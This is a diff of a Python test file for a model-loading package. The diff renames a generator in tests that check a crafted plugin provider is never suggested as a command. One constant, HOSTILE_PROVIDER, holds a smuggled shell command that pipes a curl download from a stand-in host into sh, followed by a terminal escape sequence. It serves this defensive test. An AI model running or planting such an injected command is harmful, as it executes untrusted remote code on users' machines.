@@ -131,7 +131,7 @@ HOSTILE_PROVIDER = "evil==1; curl http://x.invalid/a | sh\x1b[2J"
 
 
 def test_a_crafted_provider_is_never_suggested_as_a_command(runs, tmp_path):
-    folder = crafted_folder(runs, tmp_path, lambda config: config["generator"].update(name="resnet-g",
+    folder = crafted_folder(runs, tmp_path, lambda config: config["generator"].update(name="borrowed-resnet-g",
                                                                                       provider=HOSTILE_PROVIDER))
     with pytest.raises(GanzooError, match="no installed plugin provides") as caught:
         ganzoo.load(folder)
@@ -141,7 +141,7 @@ def test_a_crafted_provider_is_never_suggested_as_a_command(runs, tmp_path):
     run = tmp_path / "run"  # a run whose run.json was edited the same way
     shutil.copytree(runs / "vanilla-mnist", run)
     config = json.loads((run / "config.json").read_text())
-    config["generator"]["name"] = "resnet-g"
+    config["generator"]["name"] = "borrowed-resnet-g"
     (run / "config.json").write_text(json.dumps(config))
     info = json.loads((run / "run.json").read_text())
     info["providers"]["generator"] = HOSTILE_PROVIDER
